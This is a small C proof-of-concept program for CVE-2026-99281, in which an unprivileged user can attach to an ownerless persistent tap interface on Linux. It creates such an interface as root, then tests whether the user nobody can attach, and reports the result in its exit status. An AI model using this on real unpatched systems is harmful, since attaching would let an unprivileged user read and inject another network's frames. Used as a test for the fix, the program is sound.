/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Shows CVE-2026-99281 from user space: until the fix, any user may attach to a tap interface that
 * names no owner, and so read and inject the frames of a network that root set up.
 *
 *	tun_attach make NAME	as root: make the persistent, ownerless interface
 *	tun_attach NAME		become the user nobody, try to attach, tell how that went
 *
 * Exit status: 0 attached, 1 refused by the kernel with EPERM, 2 anything else.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/if.h>
#include <linux/if_tun.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

#define NOBODY 65534

static int attach(int fd, const char *name)
{
	struct ifreq request;

	memset(&request, 0, sizeof(request));
	request.ifr_flags = IFF_TAP | IFF_NO_PI;
	strncpy(request.ifr_name, name, IFNAMSIZ - 1);
	return ioctl(fd, TUNSETIFF, &request);
}

int main(int argc, char **argv)
{
	int make = argc == 3 && strcmp(argv[1], "make") == 0;
	const char *name = argv[argc - 1];
	int fd;

	if (argc != 2 && !make) {
		fprintf(stderr, "usage: tun_attach [make] NAME\n");
		return 2;
	}
	if (!make && (setgid(NOBODY) || setuid(NOBODY))) {
		perror("setuid");
		return 2;
	}
	fd = open("/dev/net/tun", O_RDWR);
	if (fd < 0) {
		perror("/dev/net/tun");
		return 2;
	}
	if (attach(fd, name)) {
		printf("user %d: attach to %s: %s\n", (int)getuid(), name, strerror(errno));
		return errno == EPERM ? 1 : 2;
	}
	if (make && ioctl(fd, TUNSETPERSIST, 1)) {
		perror("TUNSETPERSIST");
		return 2;
	}
	printf("user %d: attach to %s: done\n", (int)getuid(), name);
	return 0;
}
